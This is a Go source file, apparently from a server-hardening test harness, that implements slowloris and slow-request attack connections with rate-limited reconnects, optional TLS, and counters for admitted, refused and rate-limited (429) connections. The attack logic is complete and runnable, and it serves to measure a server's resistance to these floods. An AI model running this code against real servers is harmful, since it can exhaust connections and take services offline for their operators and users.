package siege

import (
	"bufio"
	"context"
	"crypto/tls"
	"errors"
	"net"
	"os"
	"sync"
	"sync/atomic"
	"time"

	"golang.org/x/time/rate"
)

// attacker runs the slowloris and slow-request connections of one source
// address. Its counters are shared by thousands of goroutines, hence atomic.
type attacker struct {
	s       *settings
	limiter *rate.Limiter
	dialer  *net.Dialer
	tls     *tls.Config // nil for http

	head    []byte // slowloris: a request head without its final empty line
	slowReq []byte // slow requests: a whole request to SlowPath

	attempts, dialErrors, admitted, refused, unsettled atomic.Uint64
	answered, answered429, reconnects                  atomic.Uint64
	held, peak                                         atomic.Int64
}

// headerLine is what a slowloris connection sends every HeaderInterval.
var headerLine = []byte("X-Siege-Wait: 1\r\n")

func newAttacker(s *settings) *attacker {
	a := &attacker{
		s: s,
		// A burst of 1% of a second's worth keeps the initial fill smooth.
		limiter: rate.NewLimiter(rate.Limit(s.MaxConnectRate), max(1, int(s.MaxConnectRate/100))),
		dialer:  newDialer(s.AttackerAddr),
		head:    []byte("GET " + s.requestPath + " HTTP/1.1\r\nHost: " + s.host + "\r\nUser-Agent: portcullis-siege-attacker\r\n"),
		slowReq: buildRequest(s.SlowPath, s.host, true),
	}
	if s.https {
		a.tls = s.tlsConfig()
	}
	return a
}

// start launches one goroutine per attack connection; each ends when ctx ends.
func (a *attacker) start(ctx context.Context, wg *sync.WaitGroup) {
	for range a.s.slowloris {
		wg.Go(func() { a.worker(ctx, true) })
	}
	for range a.s.slowReqs {
		wg.Go(func() { a.worker(ctx, false) })
	}
}

// worker keeps one attack connection going: when it ends, another replaces
// it, no faster than the shared connect rate allows.
func (a *attacker) worker(ctx context.Context, slowloris bool) {
	br := bufio.NewReaderSize(nil, 1024)
	for first := true; ; first = false {
		if a.limiter.Wait(ctx) != nil {
			return // ctx ended, or will before the next slot
		}
		a.attempts.Add(1)
		if !first {
			a.reconnects.Add(1)
		}
		a.attack(ctx, slowloris, br)
	}
}

// attack makes one connection, runs it to its end and counts how it ended.
func (a *attacker) attack(ctx context.Context, slowloris bool, br *bufio.Reader) {
	dctx, cancel := context.WithTimeout(ctx, a.s.Timeout)
	raw, err := a.dialer.DialContext(dctx, "tcp", a.s.target.String())
	cancel()
	// The grace runs from the handshake's end: a connect the server kept
	// waiting (a dropped SYN, retried) and then refused was never held.
	c := &attackConn{a: a, ctx: ctx, slowloris: slowloris, begin: time.Now()}
	if err != nil {
		if ctx.Err() != nil {
			a.unsettled.Add(1)
		} else {
			a.dialErrors.Add(1)
		}
		return
	}
	// Closing, unlike a deadline, cannot be undone by the loop's next
	// SetReadDeadline, so the end of the run always interrupts it. The wait
	// for the callback keeps Run's promise that no goroutine outlives it.
	closed := make(chan struct{})
	stop := context.AfterFunc(ctx, func() {
		defer close(closed)
		_ = raw.Close()
	})
	defer func() {
		if !stop() {
			<-closed
		}
	}()
	defer raw.Close()
	_ = c.run(raw, br) // how it ended matters only through settle's rules
	c.settle()
}

// attackConn is one attack connection's state; only its worker touches it.
type attackConn struct {
	a          *attacker
	ctx        context.Context
	conn       net.Conn
	slowloris  bool
	begin      time.Time
	nextHeader time.Time
	admitted   bool
}

func (c *attackConn) run(raw net.Conn, br *bufio.Reader) error {
	s := c.a.s
	c.conn = raw
	c.nextHeader = c.begin.Add(s.HeaderInterval)
	if c.a.tls != nil {
		tc := tls.Client(raw, c.a.tls)
		_ = raw.SetDeadline(c.begin.Add(s.Timeout))
		if err := tc.HandshakeContext(c.ctx); err != nil {
			return err
		}
		c.conn = tc
	}
	first := c.a.slowReq
	if c.slowloris {
		first = c.a.head
	}
	_ = c.conn.SetWriteDeadline(time.Now().Add(s.Timeout))
	if _, err := c.conn.Write(first); err != nil {
		return err
	}
	br.Reset(c)
	resp, err := readResponse(br)
	if err != nil {
		return err
	}
	c.a.answered.Add(1)
	if resp.status == 429 {
		c.a.answered429.Add(1)
	}
	return nil
}

// Read reads from the connection, doing the connection's timed work (the
// end of the grace, the next slowloris header line) while it waits.
func (c *attackConn) Read(p []byte) (int, error) {
	for {
		if err := c.conn.SetReadDeadline(c.nextDeadline()); err != nil {
			return 0, err
		}
		n, err := c.conn.Read(p)
		if n > 0 {
			c.admit() // the server is answering: it let the connection in
			return n, err
		}
		if !errors.Is(err, os.ErrDeadlineExceeded) || c.ctx.Err() != nil {
			return n, err
		}
		if err := c.tick(); err != nil {
			return 0, err
		}
	}
}

// nextDeadline is the next moment the connection has something to do; the
// zero time (no deadline) when it only waits for the server or the run's end.
func (c *attackConn) nextDeadline() time.Time {
	var d time.Time
	if !c.admitted {
		d = c.begin.Add(c.a.s.Grace)
	}
	if c.slowloris && (d.IsZero() || c.nextHeader.Before(d)) {
		d = c.nextHeader
	}
	return d
}

func (c *attackConn) tick() error {
	now := time.Now()
	if !c.admitted && now.Sub(c.begin) >= c.a.s.Grace {
		c.admit()
	}
	if !c.slowloris || now.Before(c.nextHeader) {
		return nil
	}
	c.nextHeader = now.Add(c.a.s.HeaderInterval)
	_ = c.conn.SetWriteDeadline(now.Add(c.a.s.Timeout))
	_, err := c.conn.Write(headerLine)
	return err
}

// admit counts the connection as admitted and held, once.
func (c *attackConn) admit() {
	if c.admitted {
		return
	}
	c.admitted = true
	c.a.admitted.Add(1)
	held := c.a.held.Add(1)
	for {
		peak := c.a.peak.Load()
		if held <= peak || c.a.peak.CompareAndSwap(peak, held) {
			return
		}
	}
}

// settle counts how the connection ended. A connection
// the server held past the grace was admitted even if nothing else showed it
// (a TLS handshake that hung, say).
func (c *attackConn) settle() {
	if !c.admitted && c.ctx.Err() == nil && time.Since(c.begin) >= c.a.s.Grace {
		c.admit()
	}
	switch {
	case c.admitted:
		c.a.held.Add(-1)
	case c.ctx.Err() != nil:
		c.a.unsettled.Add(1)
	default: // closed, reset or handshake cut within the grace
		c.a.refused.Add(1)
	}
}

// stats returns the counters as a report section.
func (a *attacker) stats(elapsed time.Duration) *AttackStats {
	st := &AttackStats{
		Addr:         a.s.AttackerAddr,
		Slowloris:    a.s.slowloris,
		SlowRequests: a.s.slowReqs,
		Elapsed:      elapsed,
		Attempts:     a.attempts.Load(),
		DialErrors:   a.dialErrors.Load(),
		Admitted:     a.admitted.Load(),
		Refused:      a.refused.Load(),
		Unsettled:    a.unsettled.Load(),
		Answered:     a.answered.Load(),
		Answered429:  a.answered429.Load(),
		PeakHeld:     a.peak.Load(),
		Reconnects:   a.reconnects.Load(),
	}
	if elapsed > 0 {
		st.ReconnectsPerSec = float64(st.Reconnects) / elapsed.Seconds()
	}
	return st
}
